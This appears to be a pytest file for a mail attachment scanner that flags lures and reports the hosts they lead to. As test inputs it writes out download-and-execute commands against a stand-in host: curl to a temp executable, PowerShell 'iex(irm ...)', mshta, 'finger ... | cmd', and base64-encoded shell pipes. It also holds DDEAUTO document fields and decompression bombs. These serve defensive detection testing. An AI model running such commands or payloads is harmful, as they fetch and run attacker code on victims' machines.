"""What lures of 2024 to 2026 carry in a file: each is held, or tells where it leads, or tells the file that stays the
same when it is packed anew; what a town hall receives every week passes."""

from __future__ import annotations

import time
from base64 import b64encode
from hashlib import sha256

import pytest
from beffroi.scan import composed, computed, kinds, looking, rtf, rules, scripts, values
from beffroi.scan.values import Report

from tests import scan_lures_computed as computed_lures
from tests import scan_lures_documents as documents
from tests import scan_lures_pages as attached_pages
from tests import scan_samples as samples
from tests.mail_files import EXE, LNK, packed
from tests.scan_lures import (
    BY_HOST,
    DRAWN,
    EVIL,
    HELD,
    LEADS,
    MADE_ANEW,
    WEEKLY,
    calendar,
    page,
    pressed,
    with_template,
)

RULES = rules.Rules({rules.OWN: rules.own()})


def look(data: bytes) -> Report:
    return looking.examine(data, RULES.matches)


def digest(data: bytes) -> str:
    return sha256(data).hexdigest()


@pytest.mark.parametrize("name", LEADS)
def test_where_a_lure_leads_is_told(name: str) -> None:
    led = {link.rstrip("/") for link in look(LEADS[name]).links}
    hosts = {f"http://{EVIL[8:24]}:443", f"http://{EVIL[8:24]}"}
    assert led & hosts if name in BY_HOST else EVIL in led, look(LEADS[name])


@pytest.mark.parametrize("name", documents.LEADS)
def test_where_a_document_leads_is_told(name: str) -> None:
    assert EVIL in look(documents.LEADS[name]).links, look(documents.LEADS[name])


@pytest.mark.parametrize("name", documents.NOWHERE)
def test_an_honest_document_leads_nowhere_and_passes(name: str) -> None:
    report = look(documents.NOWHERE[name])
    assert report.links == [] and report.found == {}


@pytest.mark.parametrize("name", attached_pages.LEADS)
def test_where_a_page_leads_that_puts_its_address_together_is_told(name: str) -> None:
    assert EVIL in look(attached_pages.LEADS[name]).links, look(attached_pages.LEADS[name])


@pytest.mark.parametrize("name", attached_pages.ACTIVE)
def test_a_page_whose_document_type_makes_it_active_is_held(name: str) -> None:
    assert kinds.ACTIVE_PAGE in look(attached_pages.ACTIVE[name]).found


@pytest.mark.parametrize("name", computed_lures.LEADS)
def test_where_a_script_leads_that_computes_its_address_is_told(name: str) -> None:
    assert EVIL in look(computed_lures.LEADS[name]).links, look(computed_lures.LEADS[name])


@pytest.mark.parametrize("name", computed_lures.NOWHERE)
def test_an_honest_script_that_computes_leads_nowhere(name: str) -> None:
    assert look(computed_lures.NOWHERE[name]).links == []


LONG = "a" * 200_000


@pytest.mark.parametrize(
    "script",
    [
        f"x=['{LONG}'];" + "x.join('');" * 40_000,
        f"x=['{LONG}'];" + "x[0]+" * 40_000,
        f"x={{y:'{LONG}'}};" + "x.y+" * 40_000,
        f"'{LONG}'.replace('a','{LONG}')",
        "['a'" + ",'a'" * 40_000 + f"].join('{LONG}')",
        f"'{'{0}' * 40_000}' -f '{LONG}'",
        f"set a={'b' * 2000}\n" + "%a%" * 40_000,
    ],
)
def test_what_a_script_computes_does_not_grow_without_end(script: str) -> None:
    for made in (computed.texts(script), computed.command(script)):
        assert len(made) <= len(script) + 1024 * 1024


@pytest.mark.parametrize(
    "sign",
    [
        "'",
        "['a',",
        "atob('",
        "'a'+",
        "%a",
        "x=['a','b'];x[0]+",
        "{a:'b',",
        "1,2,3,4,5,6,7,8,9,",
        "'k';'abcdefghijkl'",
    ],
)
def test_scripts_without_an_end_cost_no_more_than_their_length(sign: str) -> None:
    def cost_s(count: int) -> float:
        begun_s = time.process_time()
        made = computed.command(computed.texts(sign * count))
        assert made and list(computed.links(sign * count)) == []
        return time.process_time() - begun_s

    count = 250_000 // len(sign)
    assert cost_s(4 * count) < 10 * cost_s(count)


@pytest.mark.parametrize(
    "sign", ["aHR0", "curl -a b ", "finger a@", "ssh -a ", "'{0}' -f 'a',", "\\\\a.b ", "file:\\\\a.b"]
)
def test_texts_with_commands_cost_no_more_than_their_length(sign: str) -> None:
    def cost_s(count: int) -> float:
        begun_s = time.process_time()
        told = [*scripts.commanded(f"bash -c {sign * count}"), *scripts.shares(sign * count)]
        assert not any(EVIL in one for one in told)
        return time.process_time() - begun_s

    count = 50_000 // len(sign)
    assert cost_s(4 * count) < 10 * cost_s(count)


@pytest.mark.parametrize("name", attached_pages.NOWHERE)
def test_an_honest_page_leads_nowhere(name: str) -> None:
    report = look(attached_pages.NOWHERE[name])
    assert report.links == [] and set(report.found) <= {kinds.ACTIVE_PAGE}


def test_entities_and_names_that_grow_without_end_are_not_written_out_to_it() -> None:
    page = kinds.text(attached_pages.BOMB)
    assert len(page) < len(composed.declared(page)) < 2 * 1024 * 1024
    script = f"a='{'x' * 1900}';b='{'${a}' * 400}';" + "${b}" * 9999
    assert len(script) < max(map(len, composed.spellings(script))) < 2 * 1024 * 1024


def test_an_address_that_a_pdf_leaves_the_scheme_of_is_the_one_that_acrobat_opens() -> None:
    assert look(pressed("/S/URI/URI(www.evil.example.net/go)")).links == ["http://www.evil.example.net/go"]


def test_a_command_in_a_document_in_one_xml_is_malware() -> None:
    said = b"<?mso-application progid='Word.Document'?><w:instrText>DDEAUTO cmd</w:instrText>"
    assert "malware" in look(said).found


@pytest.mark.parametrize("sign", [b"\\fldinst", b"\\fldinst" + b"{}" * 2000, b'\\fldinst HYPERLINK "'])
def test_fields_of_rtf_without_an_end_cost_no_more_than_their_length(sign: bytes) -> None:
    def cost_s(count: int) -> float:
        begun_s = time.process_time()
        rtf.links(b"{\\rtf1" + sign * count)
        return time.process_time() - begun_s

    count = 4_000_000 // len(sign)
    assert cost_s(4 * count) < 10 * cost_s(count)


@pytest.mark.parametrize(
    "plain, data",
    [
        (
            b"{\\rtf1\\ansi\\ansicpg1252\\pard hello world}\r\n",
            "2d0000002b0000004c5a4675f1c5c7a703000a007263706731323542320af32068656c090020627705b06c647d0a800fa0",
        ),
        (b"{\\rtf1 WXYZWXYZWXYZWXYZWXYZ}", "1a0000001c0000004c5a4675e2d44b51410004205758595a0d6e7d010eb0"),
        (b"{\\rtf1}", "1300000007000000" + b"MELA".hex() + "00000000" + b"{\\rtf1}".hex()),
        (b"", "1300000007000000" + b"RTFx".hex() + "00000000" + b"{\\rtf1}".hex()),
    ],
)
def test_rtf_of_mails_is_unpacked_as_microsoft_gives_examples_of_it(plain: bytes, data: str) -> None:
    """MS-OXRTFCP 4.1."""
    assert rtf.unpacked(bytes.fromhex(data)) == plain


def test_bank_details_in_a_signed_mail_are_told() -> None:
    said = f"Content-Type: text/plain\r\n\r\nNotre nouveau RIB : {samples.IBAN}\r\n".encode()
    assert samples.IBAN in look(samples.signed(said)).text


def test_rtf_that_unpacks_without_end_is_not_read_to_it() -> None:
    """Seventeen signs for two bytes, each the one before."""
    before = range(206, 206 + 17 * 125_000, 17)
    words = [((place % 4096) << 4 | 15).to_bytes(2, "big") for place in before]
    groups = (b"\xff" + b"".join(words[at : at + 8]) for at in range(0, len(words), 8))
    bomb = bytes(8) + b"LZFu" + bytes(4) + b"".join(groups)
    report = look(samples.tnef((1, f"Voir {EVIL} ".encode()), (1, bomb)))
    assert (list(report.found), report.links) == ([kinds.UNREADABLE], [EVIL])


@pytest.mark.parametrize("name", HELD)
def test_what_a_lure_carries_is_found(name: str) -> None:
    data, code = HELD[name]
    assert code in look(data).found, look(data)


@pytest.mark.parametrize("name", MADE_ANEW)
def test_of_what_is_packed_anew_for_each_reader_the_file_in_it_is_told(name: str) -> None:
    made, carried = MADE_ANEW[name]
    one, other = look(made(1)), look(made(2))
    assert one.sha256 != other.sha256
    assert digest(carried) in {*one.files} & {*other.files}


@pytest.mark.parametrize("name", WEEKLY)
def test_what_a_town_hall_receives_every_week_passes(name: str) -> None:
    assert look(WEEKLY[name]).found == {}


def test_what_no_command_fetches_and_what_lies_near_by_leads_nowhere() -> None:
    near = b"[InternetShortcut]\r\nURL=file://SERVEUR/commun/a.exe\r\n\\\\192.168.1.10\\a \\\\srv.mairie.lan\\b\r\n"
    assert look(near).links == look(f"Voir {EVIL}\r\n".encode()).links == []
    assert look(samples.pdf(f"Voir {EVIL} ou curl")).links == []


@pytest.mark.parametrize(
    "command",
    [
        "@echo off\r\ncurl -s -k evil.example.net/go -o %TEMP%\\a.exe",
        "powershell iex(irm evil.example.net)",
        "$c = 1; Invoke-WebRequest -UseBasicParsing -Uri 'evil.example.net/go'",
        "mshta.exe evil.example.net:8080/a.hta",
        "@echo off\r\ncurl -so %tmp%\\a.js -A x evil.example.net & %tmp%\\a.js",
        "@echo off\r\nfinger root@evil.example.net | cmd",
        "@echo off\r\nssh -o ProxyCommand=x x@evil.example.net",
        f"echo '{b64encode(b'curl -s http://evil.example.net/i | sh').decode()}' | base64 -d | bash -c",
        f"powershell -e {b64encode('irm evil.example.net|iex'.encode('utf-16-le')).decode()}",
    ],
)
def test_a_program_that_fetches_from_a_host_alone_leads_there(command: str) -> None:
    assert [link[7:23] for link in look(command.encode()).links] == ["evil.example.net"]


def test_the_files_of_a_command_are_no_hosts() -> None:
    said = b"@echo off\r\nmshta menu.hta\r\ncurl -o liste.txt\r\nwget -i adresses.csv\r\nirm $a.b\r\n"
    assert look(said).links == []


def test_letters_that_have_a_word_of_commands_lead_nowhere() -> None:
    said = "L'IRM du genou, chu-dijon.fr ; ssh le finger, curl a Beaune : beaune.fr."
    assert look(samples.pdf(said)).links == look(said.encode()).links == []


def test_a_name_that_is_no_text_hides_no_file_of_a_pdf() -> None:
    """Readers of PDF make bytes of it."""
    assert kinds.PROGRAM in look(samples.CARRIES.replace(b"(a.exe)", b"<9F61>")).found


@pytest.mark.parametrize("packed_as", ["A", "QUJD=QUJDR", "===", "QUJDR="])
def test_base64_that_ends_anywhere_is_read_as_far_as_it_goes(packed_as: str) -> None:
    assert look(calendar(f"ATTACH;ENCODING=BASE64:{packed_as}")).found == {}


def test_of_many_files_those_count_first_in_which_something_was_found() -> None:
    report = look(MADE_ANEW["zip with decoys"][0](1))
    assert report.files[0] == digest(LNK) and len(report.files) == values.MAX_FILES


def test_of_the_files_in_a_file_those_that_are_malware_themselves_are_told_as_such() -> None:
    """Neither what carries them, nor a program or a document with macros beside them."""
    fetches = with_template("http://evil.example.net/t.dotm")
    inner = packed(devis__docx=fetches, notice__txt=b"an innocent text " * 9)
    report = look(packed(dossier__zip=inner, eicar__com=samples.EICAR, outil__exe=EXE, lien__lnk=LNK))
    assert set(report.malware) == {digest(fetches), digest(samples.EICAR)}
    assert [*report.files[:2]] == report.malware and digest(inner) in report.files
    alone = look(fetches)
    assert kinds.MALWARE in alone.found and alone.malware == [], "it is the file itself"
    forged = values.encode(Report(malware=[digest(EXE)], files=[digest(LNK)]))
    with pytest.raises(ValueError, match="files"):
        values.decode(forged)


def test_pictures_and_what_has_no_content_are_no_files_to_know_a_lure_by() -> None:
    logo = b"\x89PNG\r\n\x1a\n" + bytes(400)
    assert look(packed(logo__png=logo, vide__txt=b"", court__txt=b"x")).files == []


def test_a_library_that_a_page_loads_and_the_name_of_a_format_are_no_places_that_it_leads_to() -> None:
    loads = "load('https://cdn.example.net/jquery.min.js?v=3'); ns='http://www.w3.org/2000/svg'"
    assert look(page(f'logo = "https://cdn.example.net/logo.png"; {loads}')).links == [
        "http://www.w3.org/2000/svg"
    ]
    assert look((DRAWN % "<path/>").encode()).links == []


@pytest.mark.parametrize(
    "part",
    [
        "<w:instrText> DDEAUTO cmd</w:instrText>".encode("utf-16"),
        "<w:instrText> DDEAUTO cmd</w:instrText>".encode("utf-16-le"),
        b"<x:instrText> DDEAUTO cmd</x:instrText>",
        b"<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd</w:instrText>",
        b"<w:instrText><![CDATA[DDE cmd]]></w:instrText>",
        b"<w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType='begin'/><w:instrText>DDE cmd</w:instrText>",
        b"<w:fldSimple w:instr='&#68;DE cmd'/>",
    ],
)
def test_a_document_with_a_command_in_another_spelling_is_held(part: bytes) -> None:
    assert "malware" in look(samples.docx(**{"word/document__xml": part})).found


def test_a_document_that_speaks_of_commands_is_none() -> None:
    said = b"<w:instrText> HYPERLINK \\l DDEAUTO </w:instrText><w:p>DDEAUTO cmd</w:p><w:instrText>TOC</w:instrText>"
    assert not look(samples.docx(**{"word/document__xml": said})).found


def test_a_document_in_utf_16_says_what_it_says() -> None:
    said = "<w:p><w:r><w:t>L’arrêté</w:t></w:r></w:p>".encode("utf-16")
    assert look(samples.docx(**{"word/document__xml": said})).text.strip() == "L’arrêté"


def test_parts_without_an_end_cost_no_more_than_their_length() -> None:
    begun = time.process_time()
    for sign in (
        b"<w:instrText ",
        b"<!--",
        b"<![CDATA[",
        b"w:instr='",
        b"HYPERLINK(",
        b"<w:instrText>HYPERLINK",
    ):
        looking.examine(samples.docx(**{"word/document__xml": sign * 200_000}), lambda _data: ())
    assert time.process_time() - begun < 5
